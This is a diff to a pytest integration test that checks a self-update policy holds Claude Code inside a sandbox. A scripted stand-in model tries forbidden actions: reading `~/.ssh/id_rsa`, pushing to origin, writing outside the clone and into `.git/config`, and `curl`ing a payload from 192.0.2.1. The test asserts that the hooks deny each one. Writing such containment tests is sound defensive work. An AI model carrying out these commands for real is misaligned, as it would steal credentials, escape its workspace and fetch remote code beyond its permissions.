@@ -2,10 +2,12 @@
 
 `tachograph serve` runs a self-update task whose agent is Claude Code 2.1.328 (installed by
 scripts/agent-clis), offline: its model is the scripted stand-in in anthropic_standin.py,
-and it runs in a network namespace with loopback only, where exactly two ports exist,
-relayed to serve (for its hooks) and to the stand-in. The implement run tries
-`git push origin main` and `cat ~/.ssh/id_rsa` (both must be denied by the policy its
-agent token carries, so Claude Code never runs them), then writes a file and commits it;
+and the executor's jail (TACHOGRAPH_SELF_UPDATE_SANDBOX=netns) runs it in a network
+namespace with loopback only, where exactly two ports exist, relayed to serve (for its
+hooks) and to the stand-in. The implement run tries `git push origin main`,
+`cat ~/.ssh/id_rsa`, writing `../outside.txt` and `.git/config`, and `curl` to an outside
+address (all must be denied by the policy its agent token carries, so Claude Code never
+runs them), then writes a file and commits it;
 the review run approves the digest it is shown. The change lands as a ref, nothing else.
 """
 
@@ -15,12 +17,9 @@ import hashlib
 import json
 import os
 import re
-import shutil
 import subprocess
 import sys
-import tempfile
 import time
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -29,16 +28,15 @@ import pytest
 
 from api.bootstrap import build_services
 from domain.task_policy import SOURCE_SELF_UPDATE
+from infra import network_jail
 from infra.settings import Settings
 from tests.agents.anthropic_standin import (
     AnthropicStandIn,
     Reply,
     Text,
     ToolUse,
-    UnixToLoopback,
     conversation_turn,
     first_prompt,
-    netns_available,
     text_of,
     tool_results,
 )
@@ -74,6 +72,7 @@ TACHOGRAPH_ENV = {
 }
 PUSH = "git push origin main"
 SSH = "cat ~/.ssh/id_rsa"
+CURL = "curl -s http://192.0.2.1/payload"
 COMMIT = "git add -A && git commit -q -m 'Add release notes'"
 
 
@@ -104,7 +103,7 @@ def netns() -> bool:
     wanted = os.environ.get("TACHOGRAPH_AGENT_NETNS", "")
     if wanted == "0":
         return False
-    available = netns_available()
+    available = network_jail.available()
     if wanted == "1" and not available:
         pytest.fail("TACHOGRAPH_AGENT_NETNS=1 but no network namespace can be created here")
     return available
@@ -158,12 +157,16 @@ def model(body: dict[str, Any]) -> Reply:
     context = text_of(body.get("system")) + text_of(body.get("messages"))
     cwd = re.search(r"Primary working directory: (\S+)", context)
     assert cwd is not None, "Claude Code no longer tells the model its working directory"
+    clone = cwd.group(1)
     steps: list[Reply] = [
         ToolUse("Bash", {"command": PUSH, "description": "Publish the branch"}),
         ToolUse("Bash", {"command": SSH, "description": "Read the deploy key"}),
+        ToolUse("Write", {"file_path": f"{clone}/../outside.txt", "content": "escaped\n"}),
+        ToolUse("Write", {"file_path": f"{clone}/.git/config", "content": "[core]\n"}),
+        ToolUse("Bash", {"command": CURL, "description": "Fetch a helper"}),
         ToolUse(
             "Write",
-            {"file_path": f"{cwd.group(1)}/NOTES.md", "content": "- release notes\n"},
+            {"file_path": f"{clone}/NOTES.md", "content": "- release notes\n"},
         ),
         ToolUse("Bash", {"command": COMMIT, "description": "Commit the notes"}),
         Text("Added release notes in NOTES.md."),
@@ -179,14 +182,6 @@ class Serve(Server):
         self.url = f"http://127.0.0.1:{self.port}"
         env = {**env_for(settings), "TACHOGRAPH_URL": self.url, **extra_env}
         Proc.__init__(self, ["serve", "--port", str(self.port)], env, log)
-
-
-@pytest.fixture
-def short_dir() -> Iterator[Path]:
-    # Unix socket paths must stay under 108 bytes: pytest's tmp_path can be longer.
-    path = Path(tempfile.mkdtemp(prefix="tg-agents-", dir="/tmp"))
-    yield path
-    shutil.rmtree(path, ignore_errors=True)
 
 
 def create_self_update_task(settings: Settings, workspace: str, prompt: str) -> str:
@@ -221,23 +216,24 @@ def test_real_claude_code_is_held_to_the_self_update_policy(
     claude: str,
     netns: bool,
     tmp_path: Path,
-    short_dir: Path,
 ) -> None:
     settings = settings.with_(api_key=ADMIN_KEY)
     report = tmp_path / "agent-env.jsonl"
-    relays: list[UnixToLoopback] = []
+    host_netns = os.readlink("/proc/self/ns/net")
+    if not netns:
+        print("no network namespace (unavailable or TACHOGRAPH_AGENT_NETNS=0): host loopback")
     with AnthropicStandIn(model) as api:
         serve_port = free_port()
-        jail = [sys.executable, str(STANDIN), "jail", "--report", str(report)]
-        if netns:
-            for name, port in (("serve", serve_port), ("model", api.port)):
-                relays.append(UnixToLoopback(str(short_dir / f"{name}.sock"), port))
-                jail += ["--forward", f"{port}={relays[-1].path}"]
-        else:
-            jail += ["--no-netns"]
-            print("no network namespace (unavailable or TACHOGRAPH_AGENT_NETNS=0): host loopback")
+        # The executor's jail (TACHOGRAPH_SELF_UPDATE_SANDBOX) wraps this reporter, which
+        # notes what the agent's process was given and then becomes Claude Code.
         argv = [
-            *jail,
+            sys.executable,
+            str(STANDIN),
+            "report",
+            "--to",
+            str(report),
+            "--host-netns",
+            host_netns,
             "--",
             claude,
             "-p",
@@ -259,6 +255,9 @@ def test_real_claude_code_is_held_to_the_self_update_policy(
             "ANTHROPIC_BASE_URL": api.url,
             "ANTHROPIC_API_KEY": "sk-ant-standin-not-a-real-key",
             **OFFLINE,
+            # Loopback only, where serve's port and the stand-in's are relayed in.
+            "TACHOGRAPH_SELF_UPDATE_SANDBOX": "netns" if netns else "none",
+            "TACHOGRAPH_SELF_UPDATE_FORWARD": str(api.port),
             "TACHOGRAPH_SELF_UPDATE_ENV": ",".join(
                 ["ANTHROPIC_BASE_URL", "ANTHROPIC_API_KEY", *OFFLINE]
             ),
@@ -279,8 +278,6 @@ def test_real_claude_code_is_held_to_the_self_update_policy(
         finally:
             serve.signal(15)
             serve.wait(30)
-            for relay in relays:
-                relay.close()
     print(f"cycle with the real Claude Code took {took:.1f} s; model calls: {api.paths()}")
     evidence = tmp_path / "evidence.json"  # for a failure's diagnosis
     evidence.write_text(
@@ -307,15 +304,25 @@ def test_real_claude_code_is_held_to_the_self_update_policy(
         ("commit", "ok"),
     ], flow
 
-    # The audit: the two refused calls were denied by code, naming their rules; the
+    # The audit: the five refused calls were denied by code, naming their rules; the
     # write and the commit passed.
     gates = [h for h in hooks if h["event"] == "PreToolUse"]
-    assert [g["outcome"] for g in gates] == ["deny", "deny", "pass", "pass"], gates
-    push, ssh = gates[0], gates[1]
-    assert push["handlerId"] == "tachograph-policy:git-remote" and PUSH in push["reason"]
-    assert ssh["handlerId"] == "tachograph-policy:outside-clone"
-    assert "~/.ssh/id_rsa" in ssh["reason"]
-    assert all(g["handlerId"] is None for g in gates[2:])  # no policy rule, no handler
+    assert [g["outcome"] for g in gates] == ["deny"] * 5 + ["pass", "pass"], gates
+    refusals = gates[:5]
+    assert [g["handlerId"] for g in refusals] == [
+        "tachograph-policy:git-remote",
+        "tachograph-policy:outside-clone",
+        "tachograph-policy:outside-clone",
+        "tachograph-policy:credentials",
+        "tachograph-policy:network",
+    ], refusals
+    push, ssh, outside, config, curl = refusals
+    assert PUSH in push["reason"] and "~/.ssh/id_rsa" in ssh["reason"]
+    # (A long path is shortened in the reason; its verdict is what counts.)
+    assert "is outside the clone" in outside["reason"]
+    assert "credential or git-internal file" in config["reason"]
+    assert "192.0.2.1" in curl["reason"]
+    assert all(g["handlerId"] is None for g in gates[5:])  # no policy rule, no handler
     # Each run's events in order: nothing ran after a deny (no PostToolUse), both allowed
     # calls ran, and the review run used no tool. (SessionEnd is left out: in `-p` mode
     # Claude Code kills hook processes still running ~20 ms into its shutdown.)
@@ -327,6 +334,9 @@ def test_real_claude_code_is_held_to_the_self_update_policy(
         "UserPromptSubmit",
         "PreToolUse",  # git push: denied
         "PreToolUse",  # cat ~/.ssh/id_rsa: denied
+        "PreToolUse",  # write ../outside.txt: denied
+        "PreToolUse",  # write .git/config: denied
+        "PreToolUse",  # curl to an outside address: denied
         "PreToolUse",  # Write NOTES.md
         "PostToolUse",
         "PreToolUse",  # git add -A && git commit
@@ -341,12 +351,16 @@ def test_real_claude_code_is_held_to_the_self_update_policy(
     # output; the write and the commit as done.
     implement = [r.body for r in api.agent_requests() if "SHA-256" not in first_prompt(r.body)]
     results = tool_results(implement[-1])
-    assert len(results) == 4, results
-    for refused, gate in zip(results[:2], (push, ssh), strict=True):
+    assert len(results) == 7, results
+    for refused, gate in zip(results[:5], refusals, strict=True):
         said = text_of(refused)
         assert refused.get("is_error") is True, refused
-        assert said == f"PreToolUse:Bash hook error: {gate['reason']}", (said, gate)
-    assert not any(r.get("is_error") for r in results[2:]), results[2:]
+        # 2.1.328 prefixes the hook's name, except for a Write outside its working
+        # directory, where it shows the bare reason.
+        tool = "Write" if gate in (outside, config) else "Bash"
+        prefixed = f"PreToolUse:{tool} hook error: {gate['reason']}"
+        assert said in (prefixed, gate["reason"] if gate is outside else prefixed), (said, gate)
+    assert not any(r.get("is_error") for r in results[5:]), results[5:]
     review = [r.body for r in api.agent_requests() if "SHA-256" in first_prompt(r.body)]
     assert len(review) == 1 and conversation_turn(review[0]) == 0
 
@@ -384,7 +398,8 @@ def test_real_claude_code_is_held_to_the_self_update_policy(
         assert run["shown"]["ANTHROPIC_BASE_URL"] == api.url
         assert run["shown"]["TACHOGRAPH_URL"] == serve.url
         assert Path(run["cwd"]) != repo and run["shown"]["HOME"] != str(Path.home())
-        if netns:
+        if netns:  # the executor's jail: loopback only, local servers' sockets hidden
             assert run["interfaces"] == ["lo"] and run["netns"] != run["hostNetns"], run
+            assert run["run"] == [], run
     assert {p.split("?")[0] for p in api.paths()} <= {"POST /v1/messages"}, api.paths()
     assert all(r.headers.get("x-api-key") == "present" for r in api.requests)
